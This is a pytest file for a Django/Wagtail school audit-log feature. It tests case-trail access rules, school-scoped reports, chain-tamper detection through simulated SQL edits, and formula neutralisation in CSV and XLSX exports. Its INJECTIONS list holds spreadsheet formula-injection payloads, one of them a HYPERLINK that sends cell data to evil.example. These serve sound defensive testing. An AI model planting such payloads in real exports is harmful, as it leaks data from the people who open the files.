"""The principal's audit screens: a case's trail, the school report and its export."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from audit.log import record
from audit.models import Action, AuditEntry
from tests.forms_app.factories import LEARNER_NAME, make_case

REFUSED = ["worker", "editor", "district", "other_principal", "other_worker"]
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd", "-2+3", "@SUM(A1)"]


def trail_url(case) -> str:
    return reverse("audit:case_trail", args=[case.pk])


def entry_by(user, action=Action.VIEW, case=None, school=None, detail="", address="192.0.2.1"):
    request = RequestFactory().get("/", REMOTE_ADDR=address)
    request.user = user
    return record(request, action, case=case, school=school, target="t", detail=detail)


@pytest.fixture
def other_case(other_school, staff):
    return make_case(other_school, staff["other_worker"], staff["other_principal"])


def test_the_principal_reads_a_cases_trail_without_its_content(client_as, staff, case):
    entry_by(staff["worker"], Action.PRINT, case, address="198.51.100.9")
    client = client_as(staff["principal"])

    response = client.get(trail_url(case))

    assert response.status_code == 200
    html = response.content.decode()
    assert case.reference in html
    assert "worker" in html
    assert "198.51.100.9" in html
    assert LEARNER_NAME not in html
    assert list(response.context["page"].object_list) == list(AuditEntry.objects.all())


def test_the_administrator_of_the_school_reads_the_trail(client_as, staff, case):
    assert client_as(staff["administrator"]).get(trail_url(case)).status_code == 200


@pytest.mark.parametrize("who", REFUSED)
def test_no_one_else_reads_a_cases_trail(client_as, staff, case, who):
    entry_by(staff["worker"], Action.VIEW, case)

    response = client_as(staff[who]).get(trail_url(case))

    assert response.status_code == 404
    assert case.reference.encode() not in response.content


def test_an_unknown_case_trail_is_404(client_as, staff):
    assert (
        client_as(staff["principal"]).get(reverse("audit:case_trail", args=[99999])).status_code
        == 404
    )


def test_the_case_page_links_to_the_trail_for_the_principal_only(client_as, staff, case):
    page = reverse("forms_app_case_modeladmin_inspect", args=[case.pk])

    assert trail_url(case) in client_as(staff["principal"]).get(page).content.decode()
    assert trail_url(case) not in client_as(staff["worker"]).get(page).content.decode()


def test_the_report_shows_the_schools_entries_only_with_the_chain_intact(
    client_as, staff, case, other_case
):
    mine = entry_by(staff["worker"], Action.VIEW, case)
    entry_by(staff["other_worker"], Action.VIEW, other_case)
    client = client_as(staff["principal"])

    response = client.get(reverse("audit:report"))

    assert response.status_code == 200
    assert list(response.context["page"].object_list) == [mine]
    assert response.context["chain"].ok
    html = response.content.decode()
    assert other_case.reference not in html
    assert LEARNER_NAME not in html


@pytest.mark.parametrize("who", ["worker", "editor", "district", "other_worker"])
def test_the_report_is_refused_to_those_without_an_audit_role(client_as, staff, who):
    assert client_as(staff[who]).get(reverse("audit:report")).status_code == 404
    assert (
        client_as(staff[who]).get(reverse("audit:report_export", args=["csv"])).status_code == 404
    )


def test_the_report_filters_by_user_action_and_dates(client_as, staff, case):
    viewed = entry_by(staff["worker"], Action.VIEW, case)
    printed = entry_by(staff["principal"], Action.PRINT, case)
    client = client_as(staff["principal"])
    url = reverse("audit:report")
    today = timezone.localdate()

    def shown(**filters):
        return list(client.get(url, filters).context["page"].object_list)

    assert shown(user="worker") == [viewed]
    assert shown(action=Action.PRINT) == [printed]
    assert shown(date_from=today.isoformat(), date_to=today.isoformat()) == [printed, viewed]
    tomorrow = today + datetime.timedelta(days=1)
    assert shown(date_from=tomorrow.isoformat()) == []
    assert shown(date_to=(today - datetime.timedelta(days=1)).isoformat()) == []
    # A bad value filters nothing and errors nothing.
    assert shown(date_from="hôm qua") == [printed, viewed]


def test_the_report_is_paginated(client_as, staff, case):
    for _ in range(55):
        entry_by(staff["worker"], Action.VIEW, case)
    client = client_as(staff["principal"])

    first = client.get(reverse("audit:report"))
    second = client.get(reverse("audit:report"), {"p": 2})

    assert len(first.context["page"].object_list) == 50
    assert len(second.context["page"].object_list) == 5


def test_the_report_says_when_the_chain_is_broken(client_as, staff, case, attacker):
    entries = [entry_by(staff["worker"], Action.VIEW, case) for _ in range(3)]
    attacker("UPDATE audit_auditentry SET detail = 'x' WHERE id = %s", [entries[1].pk])

    response = client_as(staff["principal"]).get(reverse("audit:report"))

    assert not response.context["chain"].ok
    assert response.context["chain"].broken_pk == entries[1].pk
    assert response.context["chain"].message() in response.content.decode()


def test_the_report_says_when_the_newest_entries_were_cut_off(client_as, staff, case, attacker):
    entries = [entry_by(staff["worker"], Action.VIEW, case) for _ in range(4)]
    call_command("anchor_audit_chain", stdout=io.StringIO())
    attacker("DELETE FROM audit_auditentry WHERE id > %s", [entries[1].pk])

    response = client_as(staff["principal"]).get(reverse("audit:report"))

    chain = response.context["chain"]
    assert (chain.ok, chain.problem, chain.broken_pk) == (False, "truncated", entries[-1].pk)
    assert chain.message() in response.content.decode()


def test_the_chain_status_counts_the_principals_school_only(
    client_as, staff, case, other_case, school
):
    """The status line counts the entries of the principal's own school.

    It used to count the whole deployment's, which told a principal how much
    other schools' case workers had been reading.
    """
    for _ in range(2):
        entry_by(staff["worker"], Action.VIEW, case)
    for _ in range(5):
        entry_by(staff["other_worker"], Action.VIEW, other_case)
    entry_by(None, Action.VIEW, detail="no school")

    response = client_as(staff["principal"]).get(reverse("audit:report"))

    assert response.context["chain"].ok
    assert response.context["chain_checked"] == 2
    html = response.content.decode()
    status = html[html.index('role="status"') : html.index("</p>", html.index('role="status"'))]
    assert "2" in status
    assert "7" not in status
    assert "8" not in status
    other = client_as(staff["other_principal"]).get(reverse("audit:report"))
    assert other.context["chain_checked"] == 5


def export(client, fmt: str, **filters):
    response = client.get(reverse("audit:report_export", args=[fmt]), filters)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    return response


def test_csv_export_neutralises_formulas_and_is_itself_audited(client_as, staff, case):
    for value in INJECTIONS:
        entry_by(staff["worker"], Action.VIEW, case, detail=value)
    client = client_as(staff["principal"], "203.0.113.50")

    response = export(client, "csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    details = [row[5] for row in rows[1:]]
    assert details == ["'" + value for value in INJECTIONS]
    assert all(row[3] == case.reference for row in rows[1:])
    exported = AuditEntry.objects.latest("pk")
    assert exported.action == Action.EXPORT
    assert exported.actor_username == "principal"
    assert exported.ip_address == "203.0.113.50"
    assert exported.school_id_value == case.school_id
    assert exported.detail == f"rows: {len(INJECTIONS)}"


def test_xlsx_export_neutralises_formulas(client_as, staff, case):
    for value in INJECTIONS:
        entry_by(staff["worker"], Action.VIEW, case, detail=value)

    response = export(client_as(staff["principal"]), "xlsx", action=Action.VIEW)

    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[5].value for row in rows] == ["'" + value for value in INJECTIONS]
    assert all(row[5].data_type == "s" for row in rows)


def test_export_follows_the_filters(client_as, staff, case):
    entry_by(staff["worker"], Action.VIEW, case, detail="seen")
    entry_by(staff["worker"], Action.PRINT, case, detail="printed")

    response = export(client_as(staff["principal"]), "csv", action=Action.PRINT)

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[5] for row in rows[1:]] == ["printed"]


def test_an_unknown_export_format_is_404(client_as, staff):
    response = client_as(staff["principal"]).get(reverse("audit:report_export", args=["pdf"]))
    assert response.status_code == 404


def test_the_access_log_is_in_the_menu_of_those_who_may_read_it(client_as, staff):
    url = reverse("audit:report")

    assert url in client_as(staff["principal"]).get(reverse("wagtailadmin_home")).content.decode()
    assert (
        url in client_as(staff["administrator"]).get(reverse("wagtailadmin_home")).content.decode()
    )
    assert url not in client_as(staff["worker"]).get(reverse("wagtailadmin_home")).content.decode()
    assert (
        url not in client_as(staff["district"]).get(reverse("wagtailadmin_home")).content.decode()
    )
